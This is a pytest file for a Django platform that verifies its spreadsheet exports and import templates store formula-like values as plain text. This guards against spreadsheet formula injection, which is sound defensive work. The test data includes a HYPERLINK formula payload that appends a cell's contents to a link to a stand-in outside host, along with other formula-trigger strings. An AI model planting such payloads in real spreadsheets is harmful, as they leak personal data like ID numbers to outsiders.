"""Issue 8 #3: every .xlsx the platform hands out writes text as text. A value beginning with "=", "+", "-"
or "@" (a name, a phone, a request title) is a string cell holding exactly that value, never a formula —
in every export path, since the provincial employee export carries full ID numbers."""

import io
from datetime import UTC, datetime
from typing import Any

import pytest
from openpyxl import load_workbook

from conftest import Personas, client_for, region
from sibao.enterprises.models import Enterprise
from sibao.epidemic.services import employee_create
from sibao.epidemic.tests.test_employees import id_number
from sibao.tickets.models import TicketState
from sibao.tickets.report_export import weekly_report_workbook
from sibao.tickets.reports import weekly_report_build
from sibao.tickets.tests.test_metrics import FRIDAY, local, make_ticket, make_unit
from sibao.venues.qr import trace_workbook
from sibao.venues.tracing import Contact, Trace, Visit
from sibao.whitelist.tests.flows import listed_through_services, publish_default_criteria

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.invalid/?"&F2,"查看")'
HOSTILE = {FORMULA, "+8613800000000", "-1+2", "@SUM(A1:A9)"}


def cells(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text_cells(content: bytes, expected: set[str]) -> None:
    found = [cell for cell in cells(content) if cell.value in HOSTILE]
    assert {cell.value for cell in found} == expected, "each hostile value appears unchanged"
    assert all(cell.data_type == "s" for cell in found), [(cell.coordinate, cell.data_type) for cell in found]
    assert all(not str(cell.value).startswith("=") or cell.data_type == "s" for cell in cells(content))


def hostile_enterprise(enterprise: Enterprise) -> None:
    Enterprise.objects.filter(pk=enterprise.pk).update(
        name=FORMULA, contact_name="@SUM(A1:A9)", contact_phone="+8613800000000", address="-1+2"
    )


def test_enterprise_export_page_and_api(personas: Personas) -> None:
    hostile_enterprise(personas.ent_a)
    client = client_for(personas.tongxu_hq)
    for url in ("/enterprises/export.xlsx", "/api/enterprises/export.xlsx"):
        response = client.get(url)
        assert response.status_code == 200
        assert_text_cells(response.content, HOSTILE)


@pytest.mark.parametrize(
    ("persona", "url"),
    [
        ("tongxu_hq", "/enterprises/import/template.xlsx"),
        ("ent_a_user", "/employees/import/template.xlsx"),
        ("tongxu_epidemic", "/warnings/pharmacy/template.xlsx"),
    ],
)
def test_import_templates_are_text_cells(personas: Personas, persona: str, url: str) -> None:
    response = client_for(getattr(personas, persona)).get(url)
    assert response.status_code == 200
    texts = [cell for cell in cells(response.content) if isinstance(cell.value, str)]
    assert texts and all(cell.data_type == "s" for cell in texts)


def test_province_employee_export_with_full_numbers(personas: Personas) -> None:
    publish_default_criteria(personas.tongxu_industry)
    listed_through_services(personas.ent_a_user, personas.tongxu_industry, personas.tongxu_hq)
    employee_create(
        actor=personas.ent_a_user,
        enterprise=personas.ent_a,
        data={
            "name": FORMULA,
            "id_number": id_number("41022219900101123"),
            "phone": "+8613800000000",
            "team": "-1+2",
            "dormitory": "@SUM(A1:A9)",
        },
    )
    client = client_for(personas.tongxu_epidemic)
    for url in ("/employees/export.xlsx", "/api/employees/export.xlsx"):
        response = client.get(url)
        assert response.status_code == 200
        assert_text_cells(response.content, HOSTILE)


def test_public_whitelist_download(personas: Personas) -> None:
    publish_default_criteria(personas.tongxu_industry)
    listed_through_services(personas.ent_a_user, personas.tongxu_industry, personas.tongxu_hq)
    hostile_enterprise(personas.ent_a)
    response = client_for(personas.ent_b_user).get("/public/whitelist.xlsx")
    assert response.status_code == 200
    assert_text_cells(response.content, {FORMULA})


def test_venue_trace_export() -> None:
    at = datetime(2026, 5, 1, 1, 0, tzinfo=UTC)
    trace = Trace(
        visits=[Visit(venue_id=1, venue_name=FORMULA, enterprise_id=7, scanned_at=at)],
        contacts=[
            Contact(
                id_digest="d" * 64,
                employee_id=None,
                name="-1+2",
                enterprise_id=7,
                venue_id=1,
                venue_name=FORMULA,
                case_scanned_at=at,
                contact_scanned_at=at,
            )
        ],
    )
    content = trace_workbook(trace, subject="@SUM(A1:A9)", enterprise_names={7: "+8613800000000"})
    assert_text_cells(content, {FORMULA, "-1+2", "+8613800000000"})


def test_weekly_report_download(personas: Personas) -> None:
    make_ticket(
        personas.ent_a,
        personas.ent_a_user,
        unit=make_unit(),
        title=FORMULA,
        filed_at=local(6),
        assigned_at=local(6),
        due_at=local(8),
        state=TicketState.IN_PROGRESS,
    )
    report = weekly_report_build(region("410222"), FRIDAY, now=local(13, 9))
    assert [row["title"] for row in report.figures["overdue"]] == [FORMULA]
    assert_text_cells(weekly_report_workbook(report), {FORMULA})
    download = client_for(personas.tongxu_supervision).get("/requests/weekly/410222/2024-05-10.xlsx")
    assert download.status_code == 200
    assert_text_cells(download.content, {FORMULA})
